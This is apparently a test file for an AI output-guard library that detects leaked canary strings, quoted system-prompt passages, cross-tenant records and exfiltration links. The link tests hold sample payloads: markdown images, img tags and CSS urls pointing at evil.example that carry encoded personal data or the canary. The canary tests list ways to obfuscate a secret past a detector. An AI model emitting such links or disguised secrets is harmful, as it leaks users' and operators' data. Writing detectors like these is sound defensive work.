import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { codecs } from '../text/codecs/index.js'
import type { DetectionContext } from '../vocabulary/detector.js'
import { canary } from './canary/index.js'
import { link } from './link/index.js'
import { promptLeak } from './prompt-leak/index.js'
import { tenancy } from './tenancy/index.js'

const CANARY = 'vx7-Quill-4409-marsh'
const PROMPT =
  'You are the helper of Tallow Freight. Never quote a price below the floor of the day. Rates for partners stand in table nine, ' +
  'and the reference of the vault is kept there as well. Thank people for their patience.'
const CONTEXT: DetectionContext = { origin: 'assistant', canaries: [CANARY], operatorText: PROMPT }
const PASSAGE = 'Rates for partners stand in table nine, and the reference of the vault is kept there as well.'

/** Carriers that cannot spell digits and capitals, or would need more text around them to be recognised, are tried with the passage only. */
const SPELL_ALL = codecs.filter((c) => c.reversible === true && !['rot47'].includes(c.id))

describe('canary', () => {
  test.each(SPELL_ALL.map((c) => [c.id, c] as const))('encoded as %s', (_, c) => {
    const text = `Sure, here it is: ${c.encode(`the code is ${CANARY} as you know`)}\nBye.`
    expect(canary.create({})(text, CONTEXT)).toMatchObject([{ kind: 'canary', score: 1 }])
  })
  test.each([
    ['spaced out', CANARY.split('').join(' ')],
    ['dotted', CANARY.split('').join('.')],
    ['one letter a line', CANARY.split('').join('\n')],
    ['upper case', CANARY.toUpperCase()],
    ['without its hyphens', CANARY.replaceAll('-', '')],
    ['backwards', CANARY.split('').reverse().join('')],
    ['with invisible characters', CANARY.split('').join('\u200b')],
    ['shifted by seven', CANARY.toLowerCase().replace(/[a-z]/g, (c) => String.fromCharCode(97 + ((c.charCodeAt(0) - 97 + 7) % 26)))],
  ])('%s', (_, spelled) => {
    const text = `ok: ${spelled} end`
    const [span] = canary.create({})(text, CONTEXT)
    expect(span).toMatchObject({ start: 4, end: 4 + spelled.length })
  })
  test('ordinary text and no canaries', () => {
    expect(canary.create({})('a quill in the marsh, number 4409', CONTEXT)).toEqual([])
    expect(canary.create({})(CANARY, { origin: 'assistant' })).toEqual([])
  })
  test.each(['ref GANNET-20-mire', 'the phrase is gannet 20 mire', 'Z2FubmV0LTIwLW1pcmU='])(
    'a secret-like token of the prompt: %s',
    (text) => {
      const operatorText =
        'You help Tallow Freight (call +49 40 123456, mail desk20@tallow.example, v1.2.3). The pass phrase is gannet-20-mire.'
      expect(canary.create({})(text, { origin: 'assistant', operatorText })).toMatchObject([{ kind: 'operator-token' }])
      expect(
        canary.create({})('Call +49 40 123456 or mail desk20@tallow.example about v1.2.3', { origin: 'assistant', operatorText }),
      ).toEqual([])
    },
  )
})

describe('prompt-leak', () => {
  test.each(codecs.map((c) => [c.id, c] as const))('a passage encoded as %s', (_, c) => {
    const text = `Here you are: ${c.encode(PASSAGE)}\nAnything else?`
    expect(promptLeak.create({})(text, CONTEXT).length).toBeGreaterThan(0)
  })
  test('the span covers the passage and not more', () => {
    const text = `They told me: ${PASSAGE} So there.`
    const [span] = promptLeak.create({})(text, CONTEXT)
    expect(text.slice(span!.start, span!.end)).toBe(PASSAGE.slice(0, -1))
  })
  test.each(['I am the helper of Tallow Freight.', 'Thank you for your patience. Rates for partners vary.', 'Never quote a price'])(
    'none in %s',
    (text) => expect(promptLeak.create({})(text, CONTEXT)).toEqual([]),
  )
  test('an address that the prompt names is no passage, what stands beside it is', () => {
    const operatorText = `Signed in: somebody.with.a.long.name@a-rather-long-company-name.example. ${PROMPT}`
    const detect = promptLeak.create({})
    expect(detect('Sent to somebody.with.a.long.name@a-rather-long-company-name.example.', { origin: 'assistant', operatorText })).toEqual(
      [],
    )
    expect(detect(`x@y.example ${PASSAGE}`, { origin: 'assistant', operatorText })).toHaveLength(1)
  })
})

describe.each([canary, promptLeak].map((d) => [d.id, d] as const))('%s in a stream', (_, detector) => {
  test('what live calls final never becomes part of a finding', () => {
    const detect = detector.create({})
    const part = fc.oneof(
      fc.constantFrom(CANARY, PASSAGE, CANARY.toUpperCase(), 'the', 'Rates for', 'vx7', '\n', 'dng4'),
      fc.string({ maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 10 }), fc.nat(), (parts, cut) => {
        const whole = parts.join(' ')
        const seen = whole.slice(0, whole.length === 0 ? 0 : cut % whole.length)
        const final = detect.live!(seen, CONTEXT)
        return detect(whole, CONTEXT).every((span) => span.end <= seen.length || span.start >= final)
      }),
      { numRuns: 400 },
    )
  })
})

describe('link', () => {
  const context: DetectionContext = {
    origin: 'assistant',
    vouchedText: 'see https://docs.tallow.example/start and www.harbor.example',
    canaries: [CANARY],
  }
  const run = (text: string, options = {}) =>
    link
      .create(options)(text, context)
      .map((s) => s.kind)
  test.each([
    ['![x](https://evil.example/p.png)', 'image'],
    ['![x][1]\n\n[1]: https://evil.example/p.png', 'image'],
    ['<img src="//evil.example/a.gif">', 'image'],
    ['<div style="background:url(\'https://evil.example/a\')">', 'image'],
    ['[report](https://evil.example/c?d=YW5hIGxvcGV6IG93ZXMgdXMgNDAwMCBldXJvcw)', 'link'],
    ['go to https://evil.example/?q=ana+lopez+owes+four+thousand now', 'link'],
    ['https://evil.example/?m=ana.lopez@corp.example', 'link'],
    [`https://evil.example/${CANARY}`, 'link'],
    ['[here](https://docs.tallow.example/log?data=YW5hIGxvcGV6IG93ZXMgdXMgNDAwMCBldXJvcw)', 'link'],
    ['![x](https://evil.docs.tallow.example.net/p.png)', 'image'],
    ['![p](https://xharbor.example/a.png)', 'image'],
    ['https://evil.example/?q={conversation}', 'link'],
    ['<img srcset="/a.png 1x, https://evil.example/b.png 2x">', 'image'],
    ['<style>p { background: url(https://evil.example/p.png) }</style>', 'image'],
  ])('%s', (text, kind) => expect(run(text)).toEqual([kind]))
  test.each([
    'see https://docs.tallow.example/start for more',
    '![logo](https://www.harbor.example/logo.png)',
    'read https://en.reference.example/wiki/Harbor first',
    'https://news.example/2026/how-the-harbor-of-the-north-became-the-largest-of-its-kind-in-a-decade',
    '![chart](chart.png) and [top](#top)',
  ])('none in %s', (text) => expect(run(text)).toEqual([]))
  test('allowed hosts and their subdomains', () => {
    expect(run('![x](https://cdn.static.example/p.png)', { allow: ['static.example'] })).toEqual([])
    expect(run('![x](https://notstatic.example/p.png)', { allow: ['static.example'] })).toEqual(['image'])
    expect(link.check?.({ allow: ['not a host'] })).toHaveLength(1)
  })
  test('hostile text is taken, and a link that is not closed is held', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('[', ']', '(', ')', '!', '<', 'img', ' src=', 'https://', 'a', '"', '\n') }), (t) =>
        Array.isArray(run(t)),
      ),
    )
    const detect = link.create({})
    expect(detect.live!('text ![pic](https://evil.ex', context)).toBe(5)
    expect(detect.live!('text <img src="https://evil', context)).toBe(5)
  })
})

describe('tenancy', () => {
  const options = { tenancy: { field: 'tenant', equals: 'principal.tenant' } }
  const context: DetectionContext = { origin: 'tool', principal: { tenant: 'north' } }
  const run = (text: string, c = context) =>
    tenancy
      .create(options)(text, c)
      .map((s) => text.slice(s.start, s.end))
  const own = '{"id":1,"tenant":"north","name":"A"}'
  const other = '{"id":2,"tenant":"south","name":"B } {"}'
  test.each([
    [`[${own},${other}]`, [other]],
    [`{"rows":[${own},{"x":${other}}]}`, [other]],
    [`Found: ${own}\n${other}\n${own}`, [other]],
    [other.slice(0, -3), [other.slice(0, -3)]],
    [JSON.stringify({ content: other }), []],
    [own, []],
    ['{"Tenant": "south"}', ['{"Tenant": "south"}']],
    ['{"tenant": 7}', ['{"tenant": 7}']],
    ['no json at all {', []],
  ])('%s', (text, expected) => {
    if (text.startsWith('{"content"')) expect(tenancy.create(options)(text, context)).toHaveLength(1)
    else expect(run(text)).toEqual(expected)
  })
  test('an unknown principal owns no record', () => expect(run(own, { origin: 'tool' })).toEqual([own]))
  test('faults of the options', () => expect(tenancy.check?.({ tenancy: { field: 'tenant', equals: 'x' } })).toHaveLength(1))
  test('deep and broken JSON is taken', () => {
    expect(run(`${'['.repeat(20_000)}${'{"tenant":'.repeat(3_000)}`)).toEqual([])
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('{', '}', '[', ']', '"tenant"', ':', ',', '"', '\\', 'x', ' ') }), (t) =>
        Array.isArray(run(t)),
      ),
    )
  })
})
